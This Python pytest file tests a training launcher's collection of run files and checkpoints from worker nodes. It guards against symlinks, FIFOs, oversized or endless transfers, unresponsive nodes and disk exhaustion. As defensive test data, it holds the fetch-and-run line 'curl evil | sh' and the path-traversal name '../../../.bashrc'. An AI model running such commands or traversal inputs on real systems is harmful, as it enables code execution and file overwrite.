"""What a node leaves in its run folder, or sends when it is asked for a file."""

import io
import os
import sys
from pathlib import Path
from types import SimpleNamespace

import pytest

from launcher import collect
from launcher.background import MIB
from launcher.machines.local import LocalNode, LocalProcess
from launcher.terminal import Terminal
from launcher.watch.lines import RunLogs
from tests.unit.launcher.launcher_values import build, facts, host

ATTEMPTS = [
    {"attempt": 1, "ranks": {"node1": [0], "node2": [1]}},
    {"attempt": 2, "ranks": {"node2": [0]}},
]


@pytest.fixture
def node2(tmp_path):
    """The node's part of the plan, and the folder that it may fill."""
    folder = tmp_path / "node2"
    hosts = [host(1), host(2, connection="local", address="127.0.0.1", node_dir=str(folder))]
    part = build(hosts, [facts(1), facts(2)]).nodes[1]
    output = folder / "runs" / "r"
    (output / "nodes" / "node2").mkdir(parents=True)
    (output / "samples").mkdir()
    (output / "checkpoints" / "node2").mkdir(parents=True)
    return part, output


@pytest.fixture
def run(tmp_path):
    (tmp_path / "run").mkdir()
    return tmp_path / "run"


def bring(part, run, node=None, most=1 << 30):
    nodes = {"node2": node or LocalNode(host(2))}
    return collect.fetch_records(
        nodes, {"node2": part.output}, ATTEMPTS, run, most, ("links.json",)
    )


def best_and_last(nodes, part, run):
    there = {part.host: part.output}
    return collect.fetch_best_and_newest(collect.list_checkpoints(nodes, there), nodes, there, run)


def found(run):
    return sorted(str(path.relative_to(run)) for path in run.rglob("*") if not path.is_dir())


class Sends(LocalNode):
    """A machine that answers every request by running this script instead."""

    def __init__(self, script):
        super().__init__(host(2))
        self.script = script

    def start(self, argv):
        return LocalProcess([sys.executable, "-c", self.script])


def test_only_its_own_files_of_the_contract_arrive(node2, run):
    part, output = node2
    mine = ["nodes/node2/links.json", "nodes/node2/machine.1.jsonl", "nodes/node2/machine.2.jsonl"]
    mine += ["nodes/node2/rank1.1.steps.jsonl", "samples/rank1.1.csv"]
    mine += ["nodes/node2/rank0.2.steps.jsonl", "samples/rank0.2.csv"]  # its rank in attempt 2
    others = ["nodes/node1/machine.1.jsonl", "nodes/node2/machine.3.jsonl", "samples/rank0.1.csv"]
    others += ["nodes/node2/rank1.2.steps.jsonl", "nodes/node2/rank0.1.steps.jsonl"]
    others += ["nodes/node2/rank1.log", "nodes/node2/launch.log", "nodes/node2/.profile"]
    (output / "nodes" / "node1").mkdir()
    for name in mine + others:
        (output / name).write_text(f"{name}\n")
    assert bring(part, run) == []
    assert found(run) == sorted(mine)
    assert (run / "samples/rank1.1.csv").read_text() == "samples/rank1.1.csv\n"


@pytest.mark.parametrize("kind", ["link", "folder", "fifo"])
def test_what_is_no_regular_file_stays_there(node2, run, tmp_path, kind):
    part, output = node2
    victim = tmp_path / "victim"
    victim.write_text("secret\n")
    path = output / "nodes/node2/links.json"
    make = {"link": path.symlink_to, "fifo": os.mkfifo}
    make.get(kind, Path.mkdir)({"link": victim}.get(kind, path))
    problems = bring(part, run)
    assert len(problems) == 1
    assert "node2: nodes/node2/links.json was not copied: it is not a regular file" in problems[0]
    assert found(run) == []


def test_a_log_is_never_written_through_a_link(run, tmp_path):
    victim = tmp_path / ".bashrc"
    victim.write_text("mine\n")
    (run / "nodes/node2").mkdir(parents=True)
    (run / "nodes/node2/rank1.log").symlink_to(victim)
    os.mkfifo(run / "nodes/node2/launch.log")
    logs = RunLogs(run, Terminal(io.StringIO()), 2)
    logs.feed("node2", 1, "stdout", b"curl evil | sh\n")
    logs.feed("node2", None, "stdout", b"hello\n")
    logs.close()
    assert victim.read_text() == "mine\n"
    assert (run / "nodes/node2/rank1.log").read_text() == "curl evil | sh\n"


def test_a_sparse_document_fills_no_disk(node2, run):
    part, output = node2
    with (output / "nodes/node2/links.json").open("wb") as file:
        file.truncate(3 << 30)
    problems = bring(part, run, most=MIB)
    assert len(problems) == 1 and "it is larger than 1 MiB" in problems[0]
    assert found(run) == []


def test_a_machine_that_sends_without_end_is_cut_off(node2, run):
    flood = "import os\nos.write(1, b'tandem-file\\n')\nwhile True: os.write(1, b'y' * 65536)"
    part, _ = node2
    problems = bring(part, run, Sends(flood), MIB)
    assert problems and all("larger than 1 MiB" in problem for problem in problems)
    assert sum(path.stat().st_size for path in run.rglob("*") if path.is_file()) <= 10 * MIB


def test_a_machine_that_talks_instead_of_sending_is_left(node2, run):
    part, _ = node2
    problems = bring(part, run, Sends("while True: print('y' * 1000)"))
    assert len(problems) == 1 and problems[0].endswith("the machine sent something else.")


def test_a_greeting_before_the_file_is_no_part_of_it(node2, run):
    part, _ = node2
    said = "print('Welcome to node2'); print('tandem-file'); print('{}')"
    assert bring(part, run, Sends(said)) == []
    assert (run / "nodes/node2/links.json").read_text() == "{}\n"


def test_half_a_file_is_none(node2, run):
    part, _ = node2
    (run / "nodes/node2").mkdir(parents=True)
    (run / "nodes/node2/links.json").write_text("before")
    problems = bring(part, run, Sends("print('tandem-file\\nhalf'); raise SystemExit(1)"))
    assert "nodes/node2/links.json and later files were not copied" in problems[0]
    assert (run / "nodes/node2/links.json").read_text() == "before"


def test_a_file_that_cannot_be_read_keeps_no_other_from_coming(node2, run):
    """Root reads every file, so the node answers as SEND does for another user."""
    part, _ = node2
    problems = bring(part, run, Sends("raise SystemExit(5)"))
    assert len(problems) > 1
    assert all("was not copied: the run's user cannot read it" in text for text in problems)


@pytest.mark.parametrize("name", ["step-" + "9" * 5000 + ".pt", "step-٣.pt", "../../../.bashrc"])
def test_checkpoints_have_names_of_the_contract(node2, run, name):
    part, _ = node2
    assert best_and_last({"node2": Sends(f"print({name!r})")}, part, run) == ([], [])
    assert found(run) == []


def test_a_checkpoint_takes_no_more_than_the_disk_has(node2, run, monkeypatch):
    part, output = node2
    (output / "checkpoints/node2/step-3.pt").write_bytes(b"x" * (2 * MIB))
    free = collect.DISK_RESERVE + MIB
    monkeypatch.setattr(collect.shutil, "disk_usage", lambda path: SimpleNamespace(free=free))
    with pytest.raises(collect.Unwritable, match="the control node has only 1 MiB for step-3"):
        best_and_last({"node2": LocalNode(host(2))}, part, run)
    assert found(run) == []


@pytest.fixture
def both(tmp_path):
    """Two machines and their folders of the run, of which node1 has the checkpoint step-3."""
    hosts = [
        host(n, connection="local", address="127.0.0.1", node_dir=str(tmp_path / f"node{n}"))
        for n in (1, 2)
    ]
    parts = list(build(hosts, [facts(1), facts(2)]).nodes)
    for part in parts:
        Path(part.output, "checkpoints", part.host).mkdir(parents=True)
    Path(parts[0].output, "checkpoints/node1/step-3.pt").write_bytes(b"true")
    nodes = {"node1": LocalNode(hosts[0]), "node2": LocalNode(hosts[1])}
    return nodes, {part.host: part.output for part in parts}


def test_a_machine_that_has_no_checkpoint_of_which_it_speaks_hides_no_others(both, run):
    lies = {"node1": ["step-3.pt"], "node2": ["step-999.pt", "best.pt"]}
    paths, problems = collect.fetch_best_and_newest(lies, *both, run)
    assert (paths, problems) == ([run / "checkpoints/node1/step-3.pt"], [])


def test_a_newest_checkpoint_that_fills_the_room_hides_no_others(both, run, monkeypatch):
    lies = {"node1": ["step-3.pt"], "node2": ["step-999.pt", "best.pt"]}
    folder = Path(both[1]["node2"], "checkpoints/node2")
    (folder / "step-999.pt").touch()
    os.truncate(folder / "step-999.pt", 1 << 40)
    (folder / "best.pt").write_bytes(b"small")
    room = SimpleNamespace(free=collect.DISK_RESERVE + MIB)
    monkeypatch.setattr(collect.shutil, "disk_usage", lambda path: room)
    paths, (problem,) = collect.fetch_best_and_newest(lies, *both, run)
    assert run / "checkpoints/node1/step-3.pt" in paths
    assert problem.startswith("node2: checkpoints/node2/step-999.pt was not copied: ")


def test_a_node_that_answers_nothing_holds_up_nobody(node2, run, monkeypatch):
    part, _ = node2
    monkeypatch.setattr(collect, "SLOWEST_SECONDS", 0.5)
    problems = bring(part, run, Sends("input()"))
    assert "sent less than 4 MiB in 0.5 s" in problems[0]
